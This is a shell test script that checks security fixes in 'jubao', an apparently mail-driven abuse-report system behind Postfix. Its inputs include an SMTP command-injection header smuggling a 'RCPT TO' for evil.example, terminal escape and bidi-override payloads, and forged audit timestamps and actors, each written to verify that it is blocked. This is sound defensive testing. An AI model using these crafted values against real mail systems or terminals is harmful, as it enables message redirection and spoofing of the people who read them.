#!/bin/bash
# t-injection.sh - a hostile sender against what leaves jubao (issue
# "Hostile senders": findings 2, 4, 9, 12), through a real Postfix
#
#   - SMTP command injection: a Reply-To whose quoted local part folds a
#     CRLF and "RCPT TO:" into the address, with delivery_method = smtp
#     (libcurl to the relay): the relay must see no command it did not
#     get from jubao, and no recipient but the reporter's plain address;
#     a row already in the outbox with such an address is refused as it
#     leaves, on both delivery methods;
#   - caps: a report naming 2,000 URLs and 300 attachments keeps the
#     configured numbers, and the case says the rest is in the original;
#   - terminal escapes: subject, file name and text with ESC sequences, C1
#     controls and bidi overrides reach the handler's terminal made
#     visible (list, show, hot), and --json escapes them;
#   - audit honesty: --now is refused for what writes the ledger, and the
#     real uid stands beside a self-declared --actor.
cd "$(dirname "$0")/../.." || exit 2
. tests/lib/common.sh
. tests/lib/postfix.sh
. tests/lib/jubao.sh

dir=$(mktestdir inj)
sink="$dir/sink"
mkdir -p "$sink"; chown postfix "$sink"
smtp_port=$(free_port); sink_port=$(free_port); milter_port=$(free_port)
JB_CONF=$(jb_conf "$dir/jubao" "$milter_port" "delivery_method = smtp" \
    "smtp_relay = 127.0.0.1:$smtp_port" "outbox_interval = 1s" \
    "outbox_backoff_min = 1s" "report_url_limit = 100" \
    "report_evidence_limit = 50")
jb_milter_start "$JB_CONF" || { fail "jubao-milter did not start"; finish; }
sink_start "$sink" "$sink_port" || { fail "smtp-sink did not start"; finish; }
pf_start "$dir/pf" "$smtp_port" "$sink_port" "inet:127.0.0.1:$milter_port" ||
	{ fail "postfix did not start"; finish; }

send() {
	swaks --server "127.0.0.1:$smtp_port" --from "$1" --to jubao@example.cn \
	    --data "@$2" --silent 2 >>"$dir/swaks.log" 2>&1
}
find_mail() { python3 tests/lib/mail.py find "$sink" "$@"; }
case_of() {
	jb_sql "SELECT c.case_no FROM cases c JOIN messages m ON m.case_id = c.id WHERE m.message_id = '$1'"
}

# --- finding 4: SMTP command injection through a quoted local part
printf '%s\r\n' "From: user@example.org" \
    "Reply-To: \"a" " RCPT TO:<injected@evil.example>" " \"@example.org" \
    "To: jubao@example.cn" "Subject: injection" "Message-ID: <inj-1@example.org>" \
    "Content-Type: text/plain; charset=utf-8" "" "有人诈骗 https://bad.example.cn/x" >"$dir/inj.eml"
printf '%s\r\n' "From: \"a\r\n RCPT TO:<injected2@evil.example>\"@example.org" \
    "To: jubao@example.cn" "Subject: injection 2" "Message-ID: <inj-2@example.org>" \
    "Content-Type: text/plain; charset=utf-8" "" "有人诈骗 https://bad.example.cn/y" >"$dir/inj2.eml"
send user@example.org "$dir/inj.eml" && send user2@example.org "$dir/inj2.eml" &&
	pass "two reports with CRLF folded into quoted local parts are accepted" ||
	fail "the reports were refused: $(tail -n 3 "$dir/swaks.log")"
wait_for -t 20 test -n "$(find_mail rcpt=user@example.org)"
wait_for -t 20 test -n "$(find_mail rcpt=user2@example.org)"
[ -n "$(find_mail rcpt=user@example.org)" ] && [ -n "$(find_mail rcpt=user2@example.org)" ] &&
	pass "each acknowledgement goes to the envelope sender, a plain address" ||
	fail "acknowledgements: $(ls "$sink")"
# the report itself (to jubao@) holds the text; no envelope may name it
if grep -rhi "^X-Rcpt-Args:.*evil" "$sink" | grep -q .; then
	fail "the relay saw the injected recipient: $(grep -rhi "^X-Rcpt-Args:.*evil" "$sink")"
else
	pass "the relay saw no injected recipient"
fi
# on main before the fix the relay's session of the acknowledgement ended
# "rcpt=1/2 unknown=0/1": a second RCPT TO, the injected one, and a command
# it did not know
if grep -E "disconnect from .*(rcpt=[0-9]+/[2-9]|unknown=)" "$dir/pf/maillog" | grep -q .; then
	fail "the relay got commands jubao did not mean: $(grep -E "rcpt=[0-9]+/[2-9]|unknown=" "$dir/pf/maillog")"
else
	pass "every session at the relay had the one RCPT TO jubao meant, and no unknown command"
fi
# a row that is in the outbox already (a store from before, or written by
# hand) is refused as it leaves: smtp, then sendmail
c=$(case_of inj-1@example.org)
[ -n "$c" ] || fail "no case for the first report"
for method in smtp sendmail; do
	printf 'delivery_method = %s\n' "$method" >>"$JB_CONF"
	python3 - "$dir/jubao/jubao.db" "$c" <<'PY'
import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
cid = db.execute("SELECT id FROM cases WHERE case_no = ?", (sys.argv[2],)).fetchone()[0]
db.execute("INSERT INTO outbox (case_id, kind, channel, recipient, message, status, next_at, created_at) "
           "VALUES (?, 'ack', 'email', ?, 'Subject: x\r\n\r\nx\r\n', 'queued', 0, strftime('%s'))",
           (cid, '"a\r\nRCPT TO:<injected3@evil.example>"@example.org'))
db.commit()
PY
	out=$(jb_ctl deliver 2>&1)
	sed -i '$d' "$JB_CONF"
	[ "$(jb_sql "SELECT status || ': ' || COALESCE(last_error, '') FROM outbox ORDER BY id DESC LIMIT 1")" = \
	    "failed: the recipient or the sender is not a plain address: not sent" ] &&
		pass "$method: a queued row with an address that is not plain fails as it leaves" ||
		fail "$method: $out; $(jb_sql "SELECT status, last_error FROM outbox ORDER BY id DESC LIMIT 1")"
done
sleep 1
grep -rhi "^X-Rcpt-Args:.*injected" "$sink" | grep -q . && fail "injected3 reached the relay" ||
	pass "and nothing of it reached the relay"

# --- finding 2: caps on what one report holds
python3 - "$dir/caps.eml" <<'PY'
import sys
urls = "\r\n".join("http://u%d.example.cn/p" % i for i in range(2000))
parts = "".join("--b\r\nContent-Type: image/png\r\nContent-Disposition: attachment; filename=\"s%d.png\"\r\n"
                "Content-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo%04d\r\n" % (i, i) for i in range(300))
open(sys.argv[1], "w").write(
    "From: caps@example.org\r\nTo: jubao@example.cn\r\nSubject: caps\r\nMessage-ID: <caps-1@example.org>\r\n"
    "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n"
    "--b\r\nContent-Type: text/plain\r\n\r\n" + urls + "\r\n" + parts + "--b--\r\n")
PY
send caps@example.org "$dir/caps.eml" && pass "a report with 2,000 URLs and 300 attachments is accepted" ||
	fail "caps report refused"
c=$(case_of caps-1@example.org)
got=$(jb_ctl --json show "$c" | python3 -c '
import json, sys
c = json.load(sys.stdin)
notes = [e["detail"] for e in c["events"] if e["action"] == "parse_note"]
print(len(c["urls"]), len([e for e in c["evidence"] if not e["original"]]),
      any("more than 100 addresses" in n for n in notes), any("more than 50 attachments" in n for n in notes))')
[ "$got" = "100 50 True True" ] && pass "the case keeps 100 URLs and 50 attachments, and notes that the rest is in the original" ||
	fail "caps: $got"
[ "$(ls -R "$dir/jubao/evidence" | grep -c '^[0-9a-f]\{32\}$')" -le 60 ] &&
	pass "no evidence file was written past the cap" || fail "evidence files: $(ls -R "$dir/jubao/evidence" | grep -c '^[0-9a-f]\{32\}$')"

# --- finding 9: what a report says cannot rewrite a handler's terminal
esc=$'\e]0;pwned\a\e[2J\e[31m'
python3 - "$dir/esc.eml" <<'PY'
import base64, sys
body = ("举报 \x1b[2J\x1b]0;owned\x07 网站 http://esc.example.cn/\u202egnp.exe 内容 "
        "\u0085\u009b31m 账号：\u202ebad\u202c\n").encode()
subj = "=?utf-8?B?" + base64.b64encode("x\x1b[2Jy\u202ez".encode()).decode() + "?="
fname = "=?utf-8?B?" + base64.b64encode("a\u202egpj.exe".encode()).decode() + "?="
open(sys.argv[1], "wb").write((
    "From: esc@example.org\r\nTo: jubao@example.cn\r\nSubject: " + subj + "\r\n"
    "Message-ID: <esc-1@example.org>\r\nMIME-Version: 1.0\r\n"
    "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\n"
    "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n").encode() +
    base64.encodebytes(body).replace(b"\n", b"\r\n") +
    ("--b\r\nContent-Type: image/png\r\nContent-Disposition: attachment; filename=\"" + fname + "\"\r\n"
     "Content-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo=\r\n--b--\r\n").encode())
PY
send esc@example.org "$dir/esc.eml" || fail "escape report refused"
c=$(case_of esc-1@example.org)
# bad - does any output hold ESC, a C1 control (U+0080-U+009F) or a bidi override
bad() { LC_ALL=C grep -aqP '\x1b|\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]|\xe2\x81[\xa6-\xa9]|\xe2\x80\x8f|\xd8\x9c' "$1"; }
jb_ctl list >"$dir/list.txt"; jb_ctl show "$c" >"$dir/show.txt"; jb_ctl hot >"$dir/hot.txt"
jb_ctl --json show "$c" >"$dir/show.json"; jb_ctl --json list >"$dir/list.json"
for f in list.txt show.txt hot.txt show.json list.json; do
	bad "$dir/$f" && fail "$f holds a raw escape, C1 control or bidi override" ||
		pass "$f: no raw escape, C1 control or bidi override"
done
grep -qF '\x1b[2J' "$dir/show.txt" && grep -qF '\u202e' "$dir/show.txt" &&
	pass "show makes them visible instead (\\x1b, \\u202e)" || fail "show.txt: $(grep -a text -A2 "$dir/show.txt")"
[ "$(python3 -c 'import json,sys; c=json.load(open(sys.argv[1])); print("\x1b" in c["text"] and "\u202e" in c["text"])' "$dir/show.json")" = True ] &&
	pass "--json still carries the text exactly (escaped, not lost)" || fail "show.json lost the text"

# --- finding 12: --now does not write, and the uid stands beside --actor
out=$(jb_ctl --now 2020-01-01 --actor forger accept "$c" 2>&1); rc=$?
[ "$rc" = 2 ] && [[ "$out" == *"--now is for reading"* ]] &&
	[ "$(jb_sql "SELECT count(*) FROM events WHERE action = 'accept'")" = 0 ] &&
	pass "--now with an action is refused: no backdated event" || fail "--now accept: $rc $out"
jb_ctl --actor someone-else accept "$c" >/dev/null
[ "$(jb_sql "SELECT actor || ' ' || uid FROM events WHERE action = 'accept'")" = "someone-else $(id -u)" ] &&
	pass "a self-declared actor is recorded with the real uid" ||
	fail "accept event: $(jb_sql "SELECT actor, uid FROM events WHERE action = 'accept'")"
jb_ctl show "$c" | grep -q "someone-else (uid $(id -u))" &&
	pass "and show prints both" || fail "show: $(jb_ctl show "$c" | grep accept)"
finish
